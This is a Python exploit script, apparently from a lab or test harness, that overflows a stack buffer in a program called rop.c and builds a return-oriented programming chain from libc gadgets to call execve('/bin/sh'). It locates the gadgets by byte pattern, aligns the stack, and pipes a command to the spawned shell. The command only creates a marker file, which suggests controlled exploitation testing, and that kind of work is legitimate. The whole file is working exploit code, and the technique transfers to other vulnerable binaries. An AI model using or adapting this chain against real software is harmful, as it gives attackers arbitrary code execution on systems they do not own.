#!/usr/bin/env python3
"""Exploit for rop.c: a ROP chain of libc gadgets calling execve("/bin/sh").

From the binary: the distance from vuln()'s buffer to its return address.
From libc (the same file the target maps): the gadgets `pop rdi; ret`,
`pop rsi; ret` and one that loads rdx (glibc 2.36 has `pop rdx; ret` only
in a few places, `pop rdx; pop rbx; ret` more often), found by scanning the
executable segments for their bytes; the string "/bin/sh"; execve's offset
(nm -D). From the leak: libc's base. The chain is

    execve("/bin/sh", NULL, NULL)

(the kernel gives a NULL argv one empty argument). The payload fills the
512 bytes vuln() reads exactly, so the command after it stays in the pipe
and is what the shell reads from its standard input.
"""
import sys

import attacker as a

args = a.parse_args(__doc__)
distance, _ = a.stack_frame(args.binary, "vuln")
layout = a.leak_layout(args)
libc = a.Elf(layout.libc_path)
lbase = layout.libc_base


def gadget(code):
    off = libc.find(code, executable=True)
    return None if off is None else lbase + off


pop_rdi = gadget(b"\x5f\xc3")
pop_rsi = gadget(b"\x5e\xc3")
ret = gadget(b"\xc3")
binsh = libc.find(b"/bin/sh\x00")
execve = a.symbols(layout.libc_path, dynamic=True).get("execve")
if None in (pop_rdi, pop_rsi, ret, binsh, execve):
    a.die("libc lacks a gadget, /bin/sh or execve")

chain = [pop_rdi, lbase + binsh, pop_rsi, 0]
for code, extra in ((b"\x5a\xc3", 0),              # pop rdx; ret
                    (b"\x5a\x5b\xc3", 1),          # pop rdx; pop rbx; ret
                    (b"\x5a\x41\x5c\xc3", 1)):     # pop rdx; pop r12; ret
    g = gadget(code)
    if g is not None:
        chain += [g, 0] + [0] * extra
        break
else:
    sys.stderr.write("exploit: no gadget for rdx, relying on its value\n")
# The slot of vuln's return address (slot 0) is 8 mod 16, as is rsp when a
# function is entered; a `ret` into execve from slot i leaves rsp at slot
# i + 1, so execve must sit in an odd slot.
if len(chain) % 2 == 0:
    chain.insert(0, ret)
chain.append(lbase + execve)

payload = b"A" * distance + b"".join(a.p64(x) for x in chain)
if len(payload) > 512:
    a.die("chain too long")
payload += b"\x00" * (512 - len(payload))
command = ("touch '%s'\nexit\n" % args.marker).encode()
a.send(args.fifo, payload + command)
